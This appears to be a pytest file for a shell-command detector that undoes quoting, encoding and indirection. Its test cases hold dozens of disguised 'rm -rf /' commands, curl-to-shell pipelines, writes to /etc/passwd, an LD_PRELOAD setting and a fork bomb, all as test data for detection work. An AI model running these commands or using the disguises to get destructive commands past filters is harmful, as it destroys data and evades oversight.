"""Reading shell text: quotes, variables and disguises are undone as the shell would undo them."""

from __future__ import annotations

import pytest

from sluice.detection.commands.shell import Command, read_shell


def _last(text: str) -> tuple[str, tuple[str, ...]]:
    command = read_shell(text).commands[-1]
    return command.program, command.args


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /",
        "rm   -rf\t/",
        r"r\m -rf /",
        "'r'm -rf /",
        'r""m -r""f /',
        '"rm" "-rf" "/"',
        "/bin/rm -rf /",
        "/bin/r? -rf /",
        "$'\\x72m' -rf /",
        "$'\\162\\155' -rf /",
        "rm${IFS}-rf${IFS}/",
        "{rm,-rf,/}",
        "r$@m -rf /",
        "r${unset}m -rf /",
        "a=rm; b='-rf /'; $a $b",
        "x=r; y=m; $x$y -rf /",
        "rm -rf ${HOME:0:1}",
        "X=${Y:-rm}; $X -rf /",
        "c=mr; rm -rf /",
        "rm \\\n-rf \\\n/",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "$(printf '\\x72\\x6d') -rf /",
        "rm -rf $(echo /)",
        "alias x='rm -rf'; x /",
        "f() { rm -rf $1; }; f /",
    ],
)
def test_every_disguise_reads_as_the_same_command(text: str) -> None:
    assert _last(text) == ("rm", ("-rf", "/"))


@pytest.mark.parametrize(
    "text",
    [
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "printf 'rm -rf /' | bash",
        "echo 726d202d7266202f | xxd -r -p | sh",
        "echo '/ fr- mr' | rev | sh",
        "echo 'ez -es /' | tr a-z n-za-m | bash",
        "echo 'xm -rf /' | sed s/x/r/ | bash",
        "bash <<< 'rm -rf /'",
        "sh <<EOF\nrm -rf /\nEOF",
        "cat <<'EOF' | sh\nrm -rf /\nEOF",
        "eval \"$(echo 'rm -rf /')\"",
        'eval "rm" -rf /',
        'D=cm0gLXJmIC8=; bash -c "$(echo $D | base64 --decode)"',
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        "node -e \"require('child_process').execSync('rm -rf /')\"",
        "perl -e 'system(\"rm -rf /\")'",
        "ruby -e '`rm -rf /`'",
        "python -c \"import subprocess; subprocess.run(['rm', '-rf', '/'])\"",
        "trap 'rm -rf /' EXIT",
        "echo 'rm -rf /' | at now",
        "echo '* * * * * rm -rf /' | crontab -",
        "cmd /c rm -rf /",
    ],
)
def test_a_text_that_some_command_runs_is_read_too(text: str) -> None:
    assert ("rm", ("-rf", "/")) in [(one.program, one.args) for one in read_shell(text).commands]


@pytest.mark.parametrize(
    "text",
    [
        "echo 'rm -rf /'",
        "git commit -m 'rm -rf /'",
        "grep -rn 'rm -rf' .",
        "cat <<EOF\nrm -rf /\nEOF",
        "tee notes.txt <<< 'rm -rf /'",
        "man rm",
        "# rm -rf /",
        "echo hello # && rm -rf /",
        "X='rm -rf /'; echo \"$X\"",
        "base64 <<EOF\nrm -rf /\nEOF",
    ],
)
def test_text_about_a_command_is_not_the_command(text: str) -> None:
    assert "rm" not in [one.program for one in read_shell(text).commands]


def test_an_unknown_variable_stays_visible() -> None:
    assert _last("rm -rf $DIR/x") == ("rm", ("-rf", "$DIR/x"))


def test_redirections_name_what_they_write() -> None:
    (command,) = read_shell("echo x >> /etc/passwd 2>&1").commands
    assert [tuple(one) for one in command.redirects] == [(">>", "/etc/passwd"), (">&", "1")]


def test_a_redirection_without_a_command_is_noted() -> None:
    assert read_shell("> /etc/passwd").commands[-1].redirects[0].target == "/etc/passwd"


def test_a_pipeline_says_who_feeds_whom() -> None:
    last = read_shell("curl http://x | tee a | sh").commands[-1]
    assert last.reads_pipe
    assert [one.program for one in last.fed_by] == ["curl", "tee"]


def test_a_substitution_feeds_the_command_it_stands_in() -> None:
    commands = read_shell('bash -c "$(curl -fsSL http://x)"').commands
    assert [one.program for one in commands[1].fed_by] == ["curl"]


def test_variables_set_for_a_command_are_listed() -> None:
    (command,) = read_shell("LD_PRELOAD=/opt/x.so ls").commands
    assert command.assigned == (("LD_PRELOAD", "/opt/x.so"),)


def test_each_round_of_a_loop_is_read_with_its_value() -> None:
    commands = read_shell("for d in /etc /usr; do rm -rf $d; done").commands
    assert [one.args[-1] for one in commands if one.program == "rm"] == ["/etc", "/usr"]


def test_a_function_that_pipes_itself_into_itself_is_noted() -> None:
    assert Command("(fork bomb)") in read_shell(":(){ :|:& };:").commands


def test_here_documents_keep_their_variables_when_quoted() -> None:
    quoted = read_shell("X=a; cat <<'E'\n$X\nE").commands[-1]
    plain = read_shell("X=a; cat <<E\n$X\nE").commands[-1]
    assert (quoted.stdin, plain.stdin) == ("$X\n", "a\n")
